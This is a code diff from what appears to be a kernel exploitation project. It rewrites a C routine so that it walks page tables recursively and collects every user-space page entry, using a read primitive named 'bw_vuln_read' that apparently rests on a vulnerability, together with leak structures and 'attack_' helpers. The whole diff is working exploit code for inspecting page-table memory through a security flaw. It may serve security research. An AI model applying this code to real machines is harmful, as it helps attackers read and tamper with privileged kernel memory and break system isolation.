@@ -29,30 +29,40 @@ uint64_t attack_entry(const struct bw_leak *leak, uint64_t root, uint64_t addres
 	return attack_entry_at(leak, root, address, 1, place);
 }
 
-/* The first entry below the table that leads to a page of user space; 0: none does. */
-static uint64_t first_page_below(const struct bw_leak *leak, uint64_t table, int level,
-				 uint64_t *place)
+struct list {
+	struct attack_page *pages;
+	size_t nr, nr_most;
+};
+
+/* Below the table, which is for addresses from there on. */
+static void list_below(const struct bw_leak *leak, uint64_t table, uint64_t start, int level,
+		       struct list *list)
 {
-	uint64_t first = attack_frame_alias(leak, table), found = 0;
 	uint64_t nr = level == LEVELS ? ENTRIES / 2 : ENTRIES;
 
-	for (uint64_t i = 0; i < nr && found == 0; i++) {
-		uint64_t entry = (uint64_t)bw_vuln_read(first + i * sizeof(entry));
+	for (uint64_t i = 0; i < nr && list->nr < list->nr_most; i++) {
+		uint64_t place = attack_frame_alias(leak, table) + i * sizeof(place);
+		uint64_t address = start + (i << (12 + 9 * (level - 1)));
+		uint64_t entry = (uint64_t)bw_vuln_read(place);
 
 		if ((entry & PRESENT_USER) != PRESENT_USER || (level > 1 && entry & LARGE)) {
 			continue;
 		}
-		*place = first + i * sizeof(entry);
-		found = level == 1 ? entry
-				   : first_page_below(leak, attack_entry_frame(entry), level - 1,
-						      place);
+		if (level > 1) {
+			list_below(leak, attack_entry_frame(entry), address, level - 1, list);
+		} else {
+			list->pages[list->nr++] = (struct attack_page){ address, place, entry };
+		}
 	}
-	return found;
 }
 
-uint64_t attack_first_page(const struct bw_leak *leak, uint64_t root, uint64_t *place)
+size_t attack_list_pages(const struct bw_leak *leak, uint64_t root, struct attack_page *pages,
+			 size_t nr_most)
 {
-	return first_page_below(leak, root, LEVELS, place);
+	struct list list = { .pages = pages, .nr_most = nr_most };
+
+	list_below(leak, root, 0, LEVELS, &list);
+	return list.nr;
 }
 
 uint64_t attack_frame_links(const struct bw_leak *leak, uint64_t address)
